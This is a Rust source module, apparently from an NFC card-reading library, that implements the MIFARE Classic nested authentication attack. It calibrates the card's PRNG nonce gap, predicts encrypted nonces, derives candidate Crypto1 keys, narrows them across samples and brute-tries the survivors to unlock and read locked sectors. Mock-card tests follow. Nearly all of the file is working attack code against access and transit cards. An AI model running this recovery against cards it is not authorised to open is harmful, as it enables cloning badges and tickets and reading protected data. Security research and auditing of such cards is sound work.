//! Nested authentication key recovery
//!
//! Once one sector key is known, an authentication to a locked sector can
//! be started inside the authenticated session. The card answers with its
//! nonce encrypted under the locked sector's key. The card's PRNG is clocked
//! by time, so after measuring the gap between the outer and the nested
//! nonce on the known sector, the nested nonce can be predicted to within a
//! few steps. A predicted nonce turns the encrypted one into 32 bits of
//! keystream, and the keystream into about 2^16 candidate keys. Candidates
//! from a few nonces are intersected and the survivors are tried on the card.

use std::collections::HashSet;

use tracing::{debug, info, instrument, warn};

use super::{
    ClassicReadOptions, RawClassicCard, RawClassicSector,
    crypto1::{self, Crypto1, READER_NONCE, RawFrame},
    reader::{read_card_with_options, read_unlocked_sector},
};
use crate::{
    Error, Result, TagId,
    keys::{ClassicKey, ClassicKeyMaterial, KeyCandidate, KeyType},
    technology::ClassicRawTechnology,
};

/// Calibration needs at least this many measured gaps
const MIN_DISTANCES: usize = 3;

/// Tuning for nested recovery
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct NestedOptions {
    /// Nested authentications to the known sector used to measure the nonce gap
    pub calibration_rounds: usize,
    /// Encrypted nonces collected per locked key at most
    pub samples: usize,
    /// PRNG steps tried on either side of the measured gap
    pub tolerance: u32,
    /// Candidates are tried on the card once no more than this many remain
    pub max_candidates: usize,
}

impl Default for NestedOptions {
    fn default() -> Self {
        Self {
            calibration_rounds: 20,
            samples: 5,
            tolerance: 30,
            max_candidates: 32,
        }
    }
}

impl NestedOptions {
    /// Set the number of calibration rounds
    pub const fn with_calibration_rounds(mut self, rounds: usize) -> Self {
        self.calibration_rounds = rounds;
        self
    }

    /// Set the number of encrypted nonces collected per key
    pub const fn with_samples(mut self, samples: usize) -> Self {
        self.samples = samples;
        self
    }

    /// Set the search window around the measured gap
    pub const fn with_tolerance(mut self, tolerance: u32) -> Self {
        self.tolerance = tolerance;
        self
    }
}

/// The four UID bytes Crypto1 mixes in
///
/// That is the whole UID of a 4-byte tag and the last four bytes of a
/// longer one. Other lengths are not MIFARE Classic UIDs.
pub fn cipher_uid(tag_id: &TagId) -> Option<u32> {
    let bytes = tag_id.as_bytes();
    if !matches!(bytes.len(), 4 | 7 | 10) {
        return None;
    }
    let tail: [u8; 4] = bytes.get(bytes.len() - 4..)?.try_into().ok()?;
    Some(u32::from_be_bytes(tail))
}

/// Read a Classic card, then attack the sectors the candidate keys left locked
///
/// Needs one sector opened by a candidate key. Each locked sector is
/// attacked for key A, then key B, and read with the first key the card
/// accepts. The tag leaving the field stops the attack and flags the card
/// as a partial read.
#[instrument(skip_all, fields(tag_id = %tag_id))]
pub async fn read_card_with_nested<T>(
    tag_id: &TagId,
    tech: &mut T,
    keys: &ClassicKeyMaterial,
    options: &ClassicReadOptions,
    nested: &NestedOptions,
) -> Result<RawClassicCard>
where
    T: ClassicRawTechnology + ?Sized,
{
    let mut card = read_card_with_options(tag_id, tech, keys, options).await?;
    if card.is_partial_read {
        return Ok(card);
    }

    let locked: Vec<usize> = card
        .sectors
        .iter()
        .filter(|sector| sector.is_unauthorized())
        .map(RawClassicSector::index)
        .collect();
    if locked.is_empty() {
        return Ok(card);
    }
    let Some(uid) = cipher_uid(tag_id) else {
        warn!(uid_len = tag_id.as_bytes().len(), "UID unusable for Crypto1, skipping nested recovery");
        return Ok(card);
    };
    let Some((known_sector, known)) = card.sectors.iter().find_map(known_key) else {
        info!(locked = locked.len(), "No sector unlocked, nested recovery needs one known key");
        return Ok(card);
    };

    info!(locked = locked.len(), known_sector, "Recovering locked sector keys");
    let mut attack = NestedAttack::new(tech, uid, known_sector, known, *nested);
    for index in locked {
        match attack.unlock(index, options).await {
            Ok(Some(sector)) => {
                if let Some(slot) = card.sectors.get_mut(index) {
                    *slot = sector;
                }
            }
            Ok(None) => debug!(sector = index, "Sector stays locked"),
            Err(e) if e.is_tag_lost() => {
                warn!(sector = index, error = %e, "Tag lost, stopping nested recovery");
                card.is_partial_read = true;
                break;
            }
            Err(e) => debug!(sector = index, error = %e, "Nested recovery failed"),
        }
    }

    Ok(card)
}

fn known_key(sector: &RawClassicSector) -> Option<(usize, KeyCandidate)> {
    match sector {
        RawClassicSector::Data {
            index, key_a: Some(key), ..
        } => Some((*index, KeyCandidate::new(*key, KeyType::A))),
        RawClassicSector::Data {
            index, key_b: Some(key), ..
        } => Some((*index, KeyCandidate::new(*key, KeyType::B))),
        _ => None,
    }
}

/// Nested attack on one card, anchored on a known sector key
#[derive(Debug)]
pub struct NestedAttack<'a, T: ?Sized> {
    tech: &'a mut T,
    uid: u32,
    known_sector: usize,
    known: KeyCandidate,
    options: NestedOptions,
    distance: Option<u32>,
}

impl<'a, T> NestedAttack<'a, T>
where
    T: ClassicRawTechnology + ?Sized,
{
    /// Attack through `tech`, authenticating `known_sector` with `known`
    pub const fn new(
        tech: &'a mut T,
        uid: u32,
        known_sector: usize,
        known: KeyCandidate,
        options: NestedOptions,
    ) -> Self {
        Self {
            tech,
            uid,
            known_sector,
            known,
            options,
            distance: None,
        }
    }

    /// Recover a key for a locked sector and read the sector with it
    pub async fn unlock(
        &mut self,
        sector: usize,
        options: &ClassicReadOptions,
    ) -> Result<Option<RawClassicSector>> {
        for key_type in [KeyType::A, KeyType::B] {
            let Some(key) = self.recover_key(sector, key_type).await? else {
                continue;
            };
            // The last candidate tried left the sector authenticated
            let candidate = KeyCandidate::new(key, key_type);
            return match read_unlocked_sector(self.tech, sector, candidate, options).await {
                Ok(read) => Ok(Some(read)),
                Err(e) if e.is_tag_lost() => Err(e),
                Err(e) => Ok(Some(RawClassicSector::invalid(sector, e.to_string()))),
            };
        }
        Ok(None)
    }

    /// Gap in PRNG steps between the outer and the nested nonce
    ///
    /// Measured once on the known sector, whose key decrypts the nested
    /// nonce, and reused for every locked sector.
    pub async fn calibrate(&mut self) -> Result<Option<u32>> {
        if self.distance.is_some() {
            return Ok(self.distance);
        }

        let mut distances = Vec::with_capacity(self.options.calibration_rounds);
        for _ in 0..self.options.calibration_rounds {
            self.tech.reselect().await?;
            let Some((mut state, outer)) = self.authenticate().await? else {
                continue;
            };
            let Some(answer) = self.nested(&mut state, self.known_sector, self.known.key_type).await? else {
                continue;
            };
            let Some(encrypted) = answer.word() else {
                continue;
            };
            let mut cipher = Crypto1::new(&self.known.key);
            let inner = encrypted ^ cipher.word(self.uid ^ encrypted, true);
            if let Some(distance) = crypto1::nonce_distance(outer, inner) {
                distances.push(distance);
            }
        }
        self.tech.reselect().await?;

        if distances.len() < MIN_DISTANCES {
            warn!(measured = distances.len(), "PRNG calibration failed");
            return Ok(None);
        }
        distances.sort_unstable();
        let distance = distances[distances.len() / 2];
        debug!(distance, measured = distances.len(), "PRNG calibrated");
        self.distance = Some(distance);
        Ok(Some(distance))
    }

    /// Recover the `key_type` key of a locked sector
    ///
    /// On success the sector is left authenticated with the returned key.
    #[instrument(skip(self), fields(known_sector = self.known_sector))]
    pub async fn recover_key(&mut self, sector: usize, key_type: KeyType) -> Result<Option<ClassicKey>> {
        let Some(distance) = self.calibrate().await? else {
            return Ok(None);
        };

        let mut candidates: Option<HashSet<ClassicKey>> = None;
        for round in 0..self.options.samples {
            let Some(keys) = self.sample(sector, key_type, distance).await? else {
                continue;
            };
            let narrowed = match candidates.take() {
                Some(previous) => previous.intersection(&keys).copied().collect(),
                None => keys,
            };
            debug!(round, candidates = narrowed.len(), "Nested nonce sampled");

            if narrowed.is_empty() {
                debug!("Samples disagree, starting over");
                continue;
            }
            if narrowed.len() <= self.options.max_candidates {
                if let Some(key) = self.verify(sector, key_type, &narrowed).await? {
                    info!(sector, %key_type, "Key recovered");
                    return Ok(Some(key));
                }
                continue;
            }
            candidates = Some(narrowed);
        }

        Ok(None)
    }

    async fn sample(
        &mut self,
        sector: usize,
        key_type: KeyType,
        distance: u32,
    ) -> Result<Option<HashSet<ClassicKey>>> {
        self.tech.reselect().await?;
        let Some((mut state, outer)) = self.authenticate().await? else {
            return Ok(None);
        };
        let Some(answer) = self.nested(&mut state, sector, key_type).await? else {
            return Ok(None);
        };

        let (uid, tolerance) = (self.uid, self.options.tolerance);
        let keys = tokio::task::spawn_blocking(move || candidate_keys(uid, outer, &answer, distance, tolerance))
            .await
            .map_err(|e| Error::message(format!("key recovery task failed: {e}")))?;
        Ok(Some(keys))
    }

    async fn verify(
        &mut self,
        sector: usize,
        key_type: KeyType,
        keys: &HashSet<ClassicKey>,
    ) -> Result<Option<ClassicKey>> {
        let mut keys: Vec<ClassicKey> = keys.iter().copied().collect();
        keys.sort_unstable();
        for key in keys {
            self.tech.reselect().await?;
            if self.tech.authenticate(sector, &key, key_type).await? {
                return Ok(Some(key));
            }
        }
        Ok(None)
    }

    /// Software authentication of the known sector
    async fn authenticate(&mut self) -> Result<Option<(Crypto1, u32)>> {
        let block = self.block(self.known_sector)?;
        let command = crypto1::with_crc(&[auth_command(self.known.key_type), block]);
        let answer = self.tech.transceive_raw(&RawFrame::plain(command)).await?;
        let Some(nt) = answer.word() else {
            return Ok(None);
        };

        let mut state = Crypto1::for_session(&self.known.key, self.uid, nt);
        let answer = self.tech.transceive_raw(&state.reader_answer(READER_NONCE, nt)).await?;
        let Some(at) = answer.word() else {
            return Ok(None);
        };
        Ok(state.verify_card_answer(at, nt).then_some((state, nt)))
    }

    /// Encrypted AUTH inside the session, answered by the encrypted nonce
    async fn nested(&mut self, state: &mut Crypto1, sector: usize, key_type: KeyType) -> Result<Option<RawFrame>> {
        let block = self.block(sector)?;
        let command = state.encrypt(&crypto1::with_crc(&[auth_command(key_type), block]));
        let answer = self.tech.transceive_raw(&command).await?;
        Ok((answer.data.len() >= 4).then_some(answer))
    }

    fn block(&self, sector: usize) -> Result<u8> {
        let block = self.tech.sector_to_block(sector);
        u8::try_from(block).map_err(|_| Error::protocol(format!("block {block} out of range for raw authentication")))
    }
}

const fn auth_command(key_type: KeyType) -> u8 {
    match key_type {
        KeyType::A => 0x60,
        KeyType::B => 0x61,
    }
}

/// Keys that fit one encrypted nested nonce
fn candidate_keys(uid: u32, outer: u32, answer: &RawFrame, distance: u32, tolerance: u32) -> HashSet<ClassicKey> {
    let mut keys = HashSet::new();
    let Some(encrypted) = answer.word() else {
        return keys;
    };

    for steps in distance.saturating_sub(tolerance)..=distance.saturating_add(tolerance) {
        let nt = crypto1::prng_successor(outer, steps);
        let ks = encrypted ^ nt;
        if parity_matches(nt, ks, &answer.parity) {
            keys.extend(crypto1::recover_keys(uid, nt, ks));
        }
    }
    keys
}

// Each parity bit is the plaintext parity masked by the keystream bit that
// follows its byte. A link that cannot report parity passes every nonce.
fn parity_matches(nt: u32, ks: u32, parity: &[u8]) -> bool {
    let Some(parity) = parity.get(..3) else {
        return true;
    };
    parity
        .iter()
        .zip(nt.to_be_bytes())
        .zip([16, 8, 0])
        .all(|((&p, byte), shift)| p & 1 == crypto1::odd_parity(byte) ^ ((ks >> shift) & 1) as u8)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        classic::read_card,
        keys::{ClassicSectorKey, RecoveredKey},
        technology::mock::MockCrypto1Card,
    };

    const UID: [u8; 4] = [0x9C, 0x59, 0x9B, 0x32];
    const LOCKED: ClassicKey = ClassicKey::new([0x4D, 0x3A, 0x99, 0xC3, 0x51, 0xDD]);

    fn tag() -> TagId {
        TagId::new(UID.to_vec())
    }

    fn quick() -> NestedOptions {
        NestedOptions::default()
            .with_calibration_rounds(4)
            .with_samples(3)
            .with_tolerance(2)
    }

    /// Sector 0 on the factory key, sector 1 locked on both roles
    fn card() -> MockCrypto1Card {
        MockCrypto1Card::new(
            u32::from_be_bytes(UID),
            vec![
                ClassicSectorKey::new(ClassicKey::DEFAULT, ClassicKey::DEFAULT),
                ClassicSectorKey::new(LOCKED, LOCKED),
            ],
        )
    }

    fn dictionary() -> ClassicKeyMaterial {
        ClassicKeyMaterial::new(None, vec![ClassicKey::DEFAULT])
    }

    #[test]
    fn test_cipher_uid() {
        assert_eq!(cipher_uid(&tag()), Some(0x9C59_9B32));
        let seven = TagId::new(vec![0x04, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66]);
        assert_eq!(cipher_uid(&seven), Some(0x3344_5566));
        assert_eq!(cipher_uid(&TagId::new(vec![0x01, 0x02])), None);
    }

    #[test]
    fn test_parity_filters_wrong_predictions() {
        let mut state = Crypto1::new(&LOCKED);
        let uid = u32::from_be_bytes(UID);
        let nt = crypto1::prng_successor(0x0120_0145, 500);

        // Card side encryption of its nonce, with the parity it sends
        let mut answer = RawFrame::default();
        for (byte, uid_byte) in nt.to_be_bytes().into_iter().zip(UID) {
            answer.data.push(byte ^ state.byte(byte ^ uid_byte, false));
            answer.parity.push(crypto1::odd_parity(byte) ^ state.peek());
        }
        let encrypted = answer.word().unwrap();

        assert!(parity_matches(nt, encrypted ^ nt, &answer.parity));
        let passing = (1..=64)
            .map(|steps| crypto1::prng_successor(nt, steps))
            .filter(|&wrong| parity_matches(wrong, encrypted ^ wrong, &answer.parity))
            .count();
        assert!(passing < 24, "{passing} of 64 wrong nonces passed");

        // Nothing to check against
        assert!(parity_matches(nt, 0, &[]));
    }

    #[tokio::test]
    async fn test_calibration_measures_nonce_gap() {
        let mut tech = card();
        let known = KeyCandidate::new(ClassicKey::DEFAULT, KeyType::A);
        let mut attack = NestedAttack::new(&mut tech, u32::from_be_bytes(UID), 0, known, quick());

        // One frame sits between the outer and the nested AUTH
        let expected = 2 * MockCrypto1Card::STEPS_PER_FRAME;
        assert_eq!(attack.calibrate().await.unwrap(), Some(expected));
        assert_eq!(attack.calibrate().await.unwrap(), Some(expected));
        assert_eq!(tech.nested_auths, 4);
    }

    #[tokio::test]
    async fn test_wrong_known_key_fails_calibration() {
        let mut tech = card();
        let known = KeyCandidate::new(ClassicKey::ZERO, KeyType::A);
        let mut attack = NestedAttack::new(&mut tech, u32::from_be_bytes(UID), 0, known, quick());

        assert_eq!(attack.recover_key(1, KeyType::A).await.unwrap(), None);
        assert_eq!(tech.nested_auths, 0);
    }

    #[tokio::test]
    async fn test_locked_sector_key_recovered() {
        let mut tech = card();
        let known = KeyCandidate::new(ClassicKey::DEFAULT, KeyType::A);
        let mut attack = NestedAttack::new(&mut tech, u32::from_be_bytes(UID), 0, known, quick());

        assert_eq!(attack.recover_key(1, KeyType::A).await.unwrap(), Some(LOCKED));
    }

    #[tokio::test]
    async fn test_read_unlocks_locked_sector() {
        let mut tech = card();
        let card = read_card_with_nested(&tag(), &mut tech, &dictionary(), &ClassicReadOptions::default(), &quick())
            .await
            .unwrap();

        assert!(!card.is_partial_read);
        assert!(matches!(card.sectors[1], RawClassicSector::Data { index: 1, .. }));
        assert!(card.recovered_keys().contains(&RecoveredKey {
            sector: 1,
            key: LOCKED,
            key_type: KeyType::A,
        }));
    }

    #[tokio::test]
    async fn test_nothing_locked_skips_attack() {
        let mut tech = MockCrypto1Card::new(
            u32::from_be_bytes(UID),
            vec![ClassicSectorKey::new(ClassicKey::DEFAULT, ClassicKey::DEFAULT); 2],
        );
        let nested = read_card_with_nested(&tag(), &mut tech, &dictionary(), &ClassicReadOptions::default(), &quick())
            .await
            .unwrap();
        assert_eq!(tech.raw_frames, 0);

        let mut plain = MockCrypto1Card::new(
            u32::from_be_bytes(UID),
            vec![ClassicSectorKey::new(ClassicKey::DEFAULT, ClassicKey::DEFAULT); 2],
        );
        let expected = read_card(&tag(), &mut plain, &dictionary()).await.unwrap();
        assert_eq!(nested.sectors, expected.sectors);
    }

    #[tokio::test]
    async fn test_no_known_key_leaves_card_locked() {
        let mut tech = card();
        let empty = ClassicKeyMaterial::new(None, vec![ClassicKey::ZERO]);
        let card = read_card_with_nested(&tag(), &mut tech, &empty, &ClassicReadOptions::default(), &quick())
            .await
            .unwrap();

        assert!(card.is_unauthorized());
        assert_eq!(tech.raw_frames, 0);
    }
}
